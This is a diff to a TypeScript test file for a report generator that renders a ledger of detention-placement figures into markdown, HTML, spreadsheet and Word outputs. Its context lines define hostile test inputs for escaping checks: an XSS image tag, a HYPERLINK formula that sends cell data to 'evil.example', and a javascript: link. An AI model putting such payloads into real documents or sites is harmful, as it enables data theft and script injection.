@@ -7,6 +7,7 @@ import { describe, expect, it } from "vitest";
 import { FIXED_OPTIONS, shippedLedger } from "../../test/support/reports.ts";
 import type { Ledger } from "../core/index.ts";
 import { writeDataPackage } from "../ledger/index.ts";
+import { seedLedger } from "../methods/index.ts";
 import { renderChartSvg } from "./charts.ts";
 import { toBibtex, toCslItems } from "./citations.ts";
 import { renderCsvFiles } from "./csv.ts";
@@ -15,10 +16,10 @@ import { renderHtml } from "./html.ts";
 import { readLegalFramework } from "./legal.ts";
 import { escapeMarkdown, renderMarkdown } from "./markdown.ts";
 import { buildReport, footnoteParts, footnoteText, reportCharts } from "./model.ts";
-import { blankPng, canRasterise } from "./png.ts";
 import { renderXlsx } from "./xlsx.ts";
 
-const ledger = shippedLedger();
+// The seed's figures: the ledger cut at the December 2024 submission's window (September 2024).
+const ledger = seedLedger(shippedLedger());
 const report = buildReport(ledger, { ...FIXED_OPTIONS, legal: readLegalFramework() });
 const SEED_FIGURES = ["923,000", "184,600", "958,000", "191,600", "39,547", "37,318", "198,000", "71.2", "26,000"];
 const unescapeXml = (s: string) =>
@@ -27,7 +28,7 @@ const sourceById = new Map(ledger.sources.map((s) => [s.id, s]));
 
 describe("markdown, html and csv", () => {
   it("are byte-identical for the same ledger and options", () => {
-    const again = buildReport(shippedLedger(), { ...FIXED_OPTIONS, legal: readLegalFramework() });
+    const again = buildReport(seedLedger(shippedLedger()), { ...FIXED_OPTIONS, legal: readLegalFramework() });
     expect(renderMarkdown(again)).toBe(renderMarkdown(report));
     expect(renderHtml(again)).toBe(renderHtml(report));
     expect([...renderCsvFiles(again)]).toEqual([...renderCsvFiles(report)]);
@@ -104,7 +105,7 @@ describe("xlsx", () => {
 
 describe("docx", () => {
   it("has real tables and real footnotes, one per source, numbered in order of first use", async () => {
-    const zip = await JSZip.loadAsync(await renderDocx(report, { rasterise: false }));
+    const zip = await JSZip.loadAsync(await renderDocx(report));
     const document = await zip.file("word/document.xml")!.async("string");
     const footnotes = await zip.file("word/footnotes.xml")!.async("string");
     expect(document).toContain("<w:tbl>");
@@ -134,7 +135,12 @@ describe("citations", () => {
     const moj = csl.find((c) => c.id === "moj-20240125-494041")!;
     expect(moj.issued).toEqual({ "date-parts": [[2024, 1, 25]] });
     expect(moj.language).toBe("zh-CN");
-    expect(csl.find((c) => c.id === "xinhua-20180402-1122623057")!.note).toBe("Archived: https://archive.ph/odKbU");
+    const xinhua = csl.find((c) => c.id === "xinhua-20180402-1122623057")!;
+    expect(xinhua.archive).toBe("archive.ph");
+    expect(xinhua.archive_location).toBe("archived copy: https://archive.ph/odKbU");
+    // A corporate publisher is one name, braced; no publisher field where biblatex has none.
+    expect(bib).toContain("author = {{Discipline Inspection and Supervision Group of the Ministry of Justice}}");
+    expect(bib).not.toMatch(/^ {2}publisher = /m);
   });
 });
 
@@ -143,7 +149,7 @@ const IMG = "<img src=x onerror=alert(1)>";
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
 const MARKUP = "*b* _i_ [x](javascript:alert(1)) `c` \\ & <b>";
 function hostileLedger(): { ledger: Ledger; sourceId: string } {
-  const base = shippedLedger();
+  const base = seedLedger(shippedLedger());
   const sourceId = report.footnotes[0]!;
   const floorObservation = base.observations.find((o) => o.measure === "liuzhi_placements" && o.jurisdiction !== "CN")!;
   return {
@@ -274,20 +280,14 @@ describe("chart legends", () => {
 });
 
 describe("docx chart fallback", () => {
-  it.runIf(canRasterise())(
-    "is the rasterised chart when Chromium is there, not a blank image",
-    async () => {
-      const zip = await JSZip.loadAsync(await renderDocx(report));
-      const pngs = Object.keys(zip.files).filter((f) => /^word\/media\/.*\.png$/.test(f));
-      expect(pngs).toHaveLength(3);
-      for (const name of pngs) {
-        const png = await zip.file(name)!.async("nodebuffer");
-        const width = png.readUInt32BE(16);
-        const height = png.readUInt32BE(20);
-        expect(png.equals(blankPng(width, height)), name).toBe(false);
-        expect(png.length).toBeGreaterThan(5_000);
-      }
-    },
-    120_000,
-  );
+  it("is the chart drawn by resvg, not a blank image, and needs no browser", async () => {
+    const zip = await JSZip.loadAsync(await renderDocx(report));
+    const pngs = Object.keys(zip.files).filter((f) => /^word\/media\/.*\.png$/.test(f));
+    expect(pngs).toHaveLength(3);
+    for (const name of pngs) {
+      const png = await zip.file(name)!.async("nodebuffer");
+      expect(png.subarray(1, 4).toString(), name).toBe("PNG");
+      expect(png.length, name).toBeGreaterThan(20_000);
+    }
+  }, 60_000);
 });
